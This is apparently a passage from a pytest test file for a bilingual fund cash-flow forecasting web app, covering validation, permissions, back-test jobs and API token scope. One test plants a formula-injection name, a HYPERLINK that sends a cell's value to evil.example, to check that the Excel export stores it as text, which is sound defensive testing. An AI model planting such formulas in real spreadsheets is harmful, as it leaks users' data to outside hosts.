    unit = next(u for u in data["units"] if u["id"] == "QY-SF01")
    assert unit["source"] == "override" and unit["parameters"]["rc_late"] == 0.9
    bad = admin.post("/funds/QY/forecast/parameters/QY-SF01", data={"bow": "-1"}, follow_redirects=True)
    assert bad.status_code == 200 and demo.session.get(ForecastParameters, "QY-SF01").bow is None
    # the refusal names its parameter, and a bound that is not allowed is not said to be
    assert "分配曲线弯度 B：应大于 0 且不超过 20" in bad.get_data(as_text=True)
    zero = admin.post("/funds/QY/forecast/parameters/QY-SF01", data={"life": "0"}, follow_redirects=True)
    assert "存续期 L（年）：应大于 0 且不超过 50" in zero.get_data(as_text=True)


def test_viewer_cannot_set_parameters(demo, as_role):
    viewer = as_role("viewer")
    assert viewer.post("/funds/QY/forecast/parameters/QY-SF01", data={"bow": "2"}).status_code == 403


def test_pacing_planner_on_the_page(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    html = client.get("/funds/QY/forecast?pacing=500000").get_data(as_text=True)
    assert 'id="pacing-plan"' in html and html.count("<tr><td>20") >= 5
    # 万元 to the fen: six decimals are a target, seven are refused (the one parser, in 万元)
    assert 'id="pacing-plan"' in client.get("/funds/QY/forecast?pacing=500000.123456").get_data(as_text=True)
    finer = client.get("/funds/QY/forecast?pacing=1.1234567").get_data(as_text=True)
    assert 'id="pacing-plan"' not in finer and "六位小数" in finer
    bad = client.get("/funds/QY/forecast?pacing=1e9").get_data(as_text=True)
    assert 'id="pacing-plan"' not in bad and 'class="error"' in bad
    assert client.get("/funds/QY/forecast?pacing=-5&pacing_kind=budget").status_code == 200


def test_accuracy_page_in_english(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    client.get("/lang/en")
    page = client.get("/funds/QY/forecast/accuracy")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Rolling-origin back-test" in html and "in the background" in html
    status = _follow(client, _status_url(html))
    assert status["label"] == "back-test origins"
    html = client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)
    assert 'id="backtest"' in html and "Calibrated" in html
    # the count of comparisons with separators, as every count on the screens ('1602' before)
    import re
    compared = re.search(r"comparisons: ([\d,]+)\.", html).group(1)
    assert int(compared.replace(",", "")) > 999 and re.fullmatch(r"\d{1,3}(,\d{3})+", compared), compared


def test_committee_review_shows_the_effect_on_the_forecast(demo, as_role, client, monkeypatch):
    from models import Proposal
    from portfolio.committee.proposals import create_proposal
    from portfolio.committee.review import review
    from portfolio.figures import forecast as fc
    proposal = create_proposal(demo.session, {
        "title": "新设数字子基金", "fund_code": "QY", "mode": "sub_fund", "target_code": "SF01",
        "planned_date": AS_OF, "amount_cny": "100000000", "first_call_cny": "20000000"}, username="mgr")
    as_role("manager")
    simulate, paths = fc.simulate, []

    def counted(start, params, quarters, n_paths, **kwargs):
        paths.append(n_paths)
        return simulate(start, params, quarters, n_paths, **kwargs)

    monkeypatch.setattr(fc, "simulate", counted)
    page = client.get(f"/committee/proposals/{proposal.id}")
    assert page.status_code == 200
    # the page runs the effect's 1,000 paths (the book's units, then the new one alone), not
    # the forecast page's 10,000: its time is benchmarks.bench_committee's, not a test's
    assert paths == [1_000, 1_000]
    html = page.get_data(as_text=True)
    assert 'id="forecast-effect"' in html and 'id="forecast-ccar95-4q"' in html
    effect = review(demo.session, demo.session.get(Proposal, proposal.id))["forecast"]
    # the page's figures are the engine's, in 万元
    from portfolio.formatting import wan
    for key in ("calls_next_year", "peak_unfunded", "ccar95_4q"):
        assert wan(effect["change"][key]) in html
    # the commitment's 8,000 万元 left to call on D is the change in peak unfunded
    assert effect["change"]["peak_unfunded"] == pytest.approx(80_000_000)
    assert effect["change"]["calls_next_year"] > 20_000_000
    assert effect["after"]["ccar95_4q"] >= effect["before"]["ccar95_4q"]
    client.get("/lang/en")
    english = client.get(f"/committee/proposals/{proposal.id}").get_data(as_text=True)
    assert "Effect on the forecast" in english and "Peak unfunded" in english


def test_api_backtest_permissions_and_a_new_book_version(demo, app):
    from models import Job
    from portfolio.book import tokens
    from tests.conftest import login, make_user

    url = f"/api/v1/funds/QY/forecast?as_of={AS_OF}&backtest=1"
    # not logged in: 401, JSON, no job started
    anonymous = app.test_client()
    for path in (url, "/api/v1/funds/QY/forecast/backtest/jobs/1"):
        refused = anonymous.get(path)
        assert refused.status_code == 401 and refused.get_json()["status"] == 401
    assert demo.session.execute(select(Job)).scalars().all() == []
    # a sub-fund manager (GP) reaches its portal only
    make_user(demo, "gp9", "gp")
    gp = app.test_client()
    login(gp, "gp9")
    assert gp.get(url).status_code == 403
    # a token: its own fund only (a job of its fund, polled with it; another fund 403)
    token, _record = tokens.issue_token(demo.session, "预算系统", "QY", 30, by="root")
    api = app.test_client()
    bearer = {"Authorization": f"Bearer {token}"}
    started = api.get(url, headers=bearer)
    assert started.status_code == 202
    status_url = started.headers["Location"]
    assert api.get(f"/api/v1/funds/TS/forecast?as_of={AS_OF}&backtest=1", headers=bearer).status_code == 403
    assert api.get(status_url.replace("/QY/", "/TS/"), headers=bearer).status_code == 403
    status = _follow_with(api, status_url, bearer)
    assert status["state"] == "done" and status["started_by"] == "api:预算系统"
    first = api.get(url, headers=bearer)
    assert first.status_code == 200 and first.get_json()["backtest"] == status["backtest"]
    # the book changes: a new version, a new job (the old table is not served for it)
    from tests.conftest import settings_in_force

    settings_in_force(demo.session, "QY", {"single_company_cap": "0.3"}, username="admin")
    renewed = api.get(url, headers=bearer)
    assert renewed.status_code == 202 and renewed.get_json()["id"] != status["id"]
    _follow_with(api, renewed.headers["Location"], bearer)
    assert len(demo.session.execute(select(Job).where(Job.kind == "forecast_backtest")).scalars().all()) == 2


def _follow_with(client, status_url: str, headers: dict, timeout: float = 120) -> dict:
    import time

    deadline = time.monotonic() + timeout
    while (status := client.get(status_url, headers=headers).get_json())["state"] in ("queued", "running"):
        assert time.monotonic() < deadline, status
        time.sleep(0.2)
    return status


def test_a_name_that_begins_like_a_formula_is_text_in_the_workbook(db, demo, as_role):
    """A sub-fund named '=HYPERLINK(…)' (the forms take such names) is a string cell in the
    forecast's workbook: openpyxl had written it as a live formula."""
    from models import SubFund

    hostile = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    sub_fund = db.session.execute(select(SubFund).order_by(SubFund.code)).scalars().first()
    sub_fund.name = hostile
    db.session.commit()
    cache.clear()
    client = as_role("viewer")
    _set_as_of(client)
    response = client.get("/funds/QY/forecast.xlsx")
    assert response.status_code == 200
    cells = [c for ws in load_workbook(io.BytesIO(response.data)).worksheets for row in ws.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == hostile] == ["s"] * sum(c.value == hostile for c in cells)
    assert any(c.value == hostile for c in cells) and not [c for c in cells if c.data_type == "f"]


def test_a_units_form_shows_its_overrides_and_a_stale_one_is_refused(demo, as_role):
    """The parameters form showed every field blank (the value in force only as a hint), and
    a blank field puts the override back to calibrated: saving one parameter wiped the others,
    and a second person's older form wiped the first one's. Now it shows the stored overrides
    filled in, with their version, and a save from a form older than the overrides is refused."""
    first, second = as_role("admin"), as_role("admin")
    _set_as_of(first)
    _set_as_of(second)
    url = "/funds/QY/forecast/parameters/QY-SF01"
    assert first.post(url, data={"rc_late": "0.9"}).status_code == 302
    html = first.get("/funds/QY/forecast?unit=SF01").get_data(as_text=True)
    assert 'name="rc_late" size="6" value="0.9"' in html
    version = re.search(r'name="version" value="([0-9a-f]+)"', html).group(1)
    stale = second.get("/funds/QY/forecast?unit=SF01").get_data(as_text=True)
    assert re.search(r'name="version" value="([0-9a-f]+)"', stale).group(1) == version
    # the first saves bow, keeping rc_late as the form shows it; the second's form is now old
    assert first.post(url, data={"rc_late": "0.9", "bow": "3", "version": version}).status_code == 302
    refused = second.post(url, data={"rc_late": "0.9", "life": "12", "version": version}, follow_redirects=True)
    assert "这些设置在您打开页面之后已被他人修改" in refused.get_data(as_text=True)
    demo.session.expire_all()
    row = demo.session.get(ForecastParameters, "QY-SF01")
    assert (row.rc_late, row.bow, row.life) == (0.9, 3, None)


def test_the_page_from_a_day_inside_a_quarter_says_to_when_each_column_runs(demo, as_role):
    """From 2025-11-15 '下一季度' and '未来一年' run 3 and 12 months on, to 2026-02-15 and 2026-11-15
    (the stub to 2025-12-31, whole quarters, and the share of the last one inside); the rows are
    calendar quarters, 2025Q4 estimated after D."""
    client = as_role("viewer")
    with client.session_transaction() as s:
        s["as_of"] = "2025-11-15"
    page = client.get("/funds/QY/forecast").get_data(as_text=True)
    assert "下一季度（至 2026-02-15）" in page and "未来一年（至 2026-11-15）" in page
    assert '<tr class="estimate"><td>2025Q4</td>' in page
    client.get("/lang/en")
    page = client.get("/funds/QY/forecast").get_data(as_text=True)
    assert "Next quarter (to 2026-02-15)" in page


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_unit_s_parameters_refused_by_the_form_and_the_use_case_say_every_fault_named_on_one_submit(
        demo, as_role, lang):
    """A value over the form's 20 characters was flashed alone, without its parameter's name
    ('不能超过 20 个字符': whose?), and the use case's faults in the other fields came only on the
    next submit. Now each is flashed named by its parameter, in the form's order, and nothing
    is stored."""
    admin = as_role("admin")
    _set_as_of(admin)
    admin.get(f"/lang/{lang}")
    page = admin.post("/funds/QY/forecast/parameters/QY-SF01",
                      data={"rc_early": "0." + "1" * 20, "bow": "-1", "life": "12"}, follow_redirects=True)
    text = html.unescape(page.get_data(as_text=True))
    colon = "：" if lang == "zh" else ": "
    rc_early = {"zh": "前两年年度出资比例 RC", "en": "Annual call rate RC, years 1–2"}[lang]
    bow = {"zh": "分配曲线弯度 B", "en": "Distribution bow B"}[lang]
    too_long = Message("too_long", max_len=20).shown(lang)
    above = Message("above_up_to", low="0", high="20").shown(lang)
    assert f"{rc_early}{colon}{too_long}" in text
    assert f"{bow}{colon}{above}" in text
    assert text.index(f"{rc_early}{colon}") < text.index(f"{bow}{colon}")
    demo.session.expire_all()
    assert demo.session.get(ForecastParameters, "QY-SF01") is None  # life's 12, right, not stored either

